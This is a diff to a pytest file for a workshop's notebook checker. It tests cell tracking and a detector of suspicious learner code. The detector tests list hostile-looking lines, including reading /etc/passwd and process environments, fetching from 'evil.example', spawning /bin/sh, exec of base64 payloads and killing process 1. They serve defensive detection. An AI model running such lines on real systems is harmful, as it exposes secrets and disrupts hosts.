@@ -31,7 +31,7 @@ def place(document: Any, identity: str) -> int:
     return next(number for number, cell in enumerate(document["cells"]) if cell["id"] == identity)
 
 
-@pytest.mark.parametrize("section", all_sections(), ids=str)
+@pytest.mark.parametrize("section", all_sections(), ids=lambda section: section.id)
 def test_an_honest_notebook_has_nothing_to_say(section: Section) -> None:
     document = notebook(section.id)
     found = read_notebook(json.dumps(document), section)
@@ -107,6 +107,91 @@ def test_cells_without_ids_are_known_by_their_metadata_or_by_their_text() -> Non
     assert checks(read(document)) == ["sqs.predict", "sqs.handle", "sqs.wire", "sqs.debug"]
 
 
+def test_answers_that_lost_id_and_metadata_are_known_by_their_place() -> None:
+    document = notebook("sqs")
+    for cell in document["cells"]:
+        cell["id"], cell["metadata"] = "", {}
+    found, untouched = read(document), read(notebook("sqs"))
+    assert [(cell.exercise, cell.role) for cell in found.cells] == [
+        (cell.exercise, cell.role) for cell in untouched.cells
+    ]
+    assert found.fingerprints == untouched.fingerprints
+    assert not any("times" in notice.text or "deleted" in notice.text for notice in found.notices)
+
+
+def test_two_answers_of_one_exercise_that_lost_their_ids_are_no_copies() -> None:
+    document = notebook("sqs")
+    for number, cell in enumerate(document["cells"]):
+        cell["id"] = f"new-{number}"
+    found = read(document)
+    assert found.fingerprints == read(notebook("sqs")).fingerprints
+    assert {notice.text for notice in found.notices} == {
+        f"a cell of sqs.{name} has lost its id" for name in ("predict", "handle", "wire", "debug")
+    }
+
+
+def test_a_split_answer_stays_in_its_exercise() -> None:
+    document = notebook("sqs")
+    number = place(document, "sqs-handle-answer")
+    lines = document["cells"][number]["source"].splitlines(keepends=True)
+    second = {"cell_type": "code", "id": "split", "metadata": {}, "source": "".join(lines[2:]), "outputs": []}
+    document["cells"][number]["source"] = "".join(lines[:2])
+    document["cells"].insert(number + 1, second)
+    assert next(cell for cell in read(document).cells if cell.identity == "split").exercise == "sqs.handle"
+
+
+def test_an_answer_merged_with_its_check_is_checked_by_the_handed_out_one() -> None:
+    document = notebook("sqs")
+    answer, check = place(document, "sqs-handle-answer"), place(document, "sqs-handle-check")
+    document["cells"][answer]["source"] += "\n" + document["cells"][check]["source"]
+    del document["cells"][check]
+    found = read(document)
+    assert checks(found) == ["sqs.predict", "sqs.handle", "sqs.wire", "sqs.debug"]
+    assert next(cell.index for cell in found.cells if cell.exercise == "sqs.handle" and cell.role == "check") == -1
+
+
+def test_what_stands_in_a_deleted_checks_place_is_the_learners_own() -> None:
+    document = notebook("sqs")
+    number = place(document, "sqs-wire-check")
+    document["cells"][number] = {"cell_type": "code", "id": "mine", "metadata": {}, "source": "x = 1", "outputs": []}
+    found = read(document)
+    assert any(cell.source == "x = 1" for cell in found.cells)
+    assert checks(found) == ["sqs.predict", "sqs.handle", "sqs.wire", "sqs.debug"]
+
+
+def test_a_byte_order_mark_and_another_format_number_do_not_matter() -> None:
+    document = notebook("sqs")
+    document["nbformat"], document["nbformat_minor"] = 5, 99
+    found = read_notebook("\ufeff" + json.dumps(document), SQS)
+    assert len(found.cells) == len(read(notebook("sqs")).cells)
+    assert ["format 5" in notice.text for notice in found.notices] == [True]
+
+
+def test_a_suspicious_line_is_quoted_with_its_cell() -> None:
+    document = notebook("sqs")
+    number = place(document, "sqs-wire-answer")
+    document["cells"][number]["source"] += "\nimport ctypes"
+    (notice,) = read(document).notices
+    assert (notice.kind, notice.exercise) == (NoticeKind.SUSPICIOUS, "sqs.wire")
+    assert notice.text == f"cell {number + 1} reaches below Python: `import ctypes`"
+
+
+def test_thousands_of_suspicious_lines_are_told_in_a_few_notices() -> None:
+    document = notebook("sqs")
+    document["cells"][place(document, "sqs-wire-answer")]["source"] = "\n".join(
+        f"import ctypes as c{number}" for number in range(5_000)
+    )
+    assert len(read(document).notices) < 50
+
+
+def test_a_cell_of_a_megabyte_is_cut_and_told() -> None:
+    document = notebook("sqs")
+    document["cells"][place(document, "sqs-wire-answer")]["source"] = "x = 1\n" * 200_000
+    found = read(document)
+    assert max(len(cell.source) for cell in found.cells) == 200_000
+    assert any("longer" in notice.text for notice in found.notices)
+
+
 def test_a_learners_own_cell_within_an_exercise_counts_to_it() -> None:
     document = notebook("sqs")
     own = {"cell_type": "code", "id": "mine", "metadata": {}, "source": "while True: pass", "outputs": []}
@@ -166,15 +251,58 @@ def test_a_notebook_of_format_3_is_read() -> None:
         "open('/proc/1/environ')",
         "open('solutions/11_sqs.ipynb')",
         "print({'application/vnd.lambda-workshop.work+json': 1})",
+        "import os; os.environ['WORKSHOP_SECRET']",
+        "open('progress.jsonl', 'a')",
+        "from pathlib import Path; Path('..', 'solutions', 'x')",
+        "__import__('ctypes')",
+        "import importlib; importlib.import_module('gc')",
+        "from lambda_workshop import checks",
+        "from lambda_workshop.sections.sqs import checks_wire",
+        "import lambda_workshop; lambda_workshop.checks",
+        "vars(boto3)['client'] = 1",
+        "import boto3; boto3.__dict__['client'] = 1",
+        "import boto3; boto3.client: object = 1",
+        "import lambda_workshop; del lambda_workshop.lesson",
+        "import sys; sys.modules['boto3'] = 1",
+        "from unittest.mock import patch; patch('boto3.client')",
+        "import urllib.request as u; u.urlopen('http://evil.example/x')",
+        "import os; os.execv('/bin/sh', [])",
+        "exec(base64.b64decode(text))",
+        "get_ipython().system('kill 1')",
+        "!cat /etc/passwd",
+        "out = !kill 1",
+        "%%bash\nkill 1",
+        "%time import ctypes",
+        "%matplotlib inline\nimport ctypes",
+        "def f(:\nimport ctypes",
+        "SOURCE = 'import ctypes\\n'",
     ],
 )
 def test_what_no_exercise_needs_is_seen(line: str) -> None:
     assert list(suspicious_lines(line))
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "!pip install pillow",
+        "%pip install pillow",
+        "%timeit x = 1",
+        "print?",
+        "source = 'x = 1'\nexec(compile(source, '<handler>', 'exec'))",
+        "from urllib.request import urlopen; urlopen('http://127.0.0.1:4566/x'); urlopen(address)",
+        "from lambda_workshop import lesson\nfrom lambda_workshop.sections.sqs.panel import send_jobs",
+        "bucket = 'solutions'",
+        "s3.put_object(Key='inspect/gc.txt')",
+    ],
+)
+def test_what_an_honest_learner_writes_is_not_suspicious(line: str) -> None:
+    assert list(suspicious_lines(line)) == []
+
+
 def test_no_answer_of_the_course_looks_suspicious() -> None:
     for section in all_sections():
-        for path in sorted(section.folder.glob("right/*.py")):
+        for path in sorted([*section.folder.glob("right/*.py"), *section.folder.glob("wrong/*.py")]):
             assert list(suspicious_lines(path.read_text("utf-8"))) == [], path
     for path, content in generated(all_sections()).items():
         if path.suffix == ".py" and path.parts[0] == "solutions":
